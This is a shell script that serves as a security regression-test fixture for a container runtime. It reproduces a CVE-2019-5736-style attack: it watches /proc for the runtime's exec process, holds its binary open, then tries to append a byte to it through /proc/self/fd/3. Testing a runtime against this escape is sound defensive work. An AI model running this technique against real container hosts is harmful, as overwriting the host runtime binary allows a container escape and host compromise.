#!/bin/sh
# CVE-2019-5736 class (b) attacker, copied into the container's rootfs by tests/isolation.rs
# (the_runtime_binary_cannot_be_rewritten_through_an_exec) and run as
# the container's init (busybox sh, pid 1). It watches /proc for a process whose exe is not
# busybox (the runtime's init while `RUNTIME exec` sets up the new process), holds that exe open
# read-only on fd 3, waits until the process is gone, then reopens the file for writing through
# /proc/self/fd/3 and appends one byte. The host judges the outcome from the binary's contents;
# /found and /result (in the rootfs) say what the attacker saw and tried.
me=$$
echo "watching as pid $me" >/started
while :; do
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		[ "$p" = "$me" ] && continue
		# `command`: a failed redirection must not end the shell (exec is a special builtin).
		command exec 3<"$d/exe" 2>/dev/null || continue
		t=$(readlink /proc/$me/fd/3 2>/dev/null)
		case $t in
		*/busybox | "")
			exec 3<&-
			continue
			;;
		esac
		echo "pid=$p exe=$t" >/found
		n=0
		while [ -e "$d" ] && [ $n -lt 200 ]; do
			n=$((n + 1))
			sleep 0.05
		done
		i=0
		while :; do
			if err=$( (echo x >>/proc/$me/fd/3) 2>&1); then
				echo "WRITE-OK pid=$p exe=$t busy-retries=$i" >/result.tmp
				mv /result.tmp /result
				exec sleep 1000
			fi
			case $err in
			*busy*)
				i=$((i + 1))
				if [ $i -lt 100 ]; then
					sleep 0.05
					continue
				fi
				;;
			esac
			break
		done
		echo "WRITE-FAILED pid=$p exe=$t busy-retries=$i: ${err#sh: }" >/result.tmp
		mv /result.tmp /result
		exec 3<&-
		# shellcheck disable=SC2093 # one attempt only: the loops end here on purpose
		exec sleep 1000
	done
done
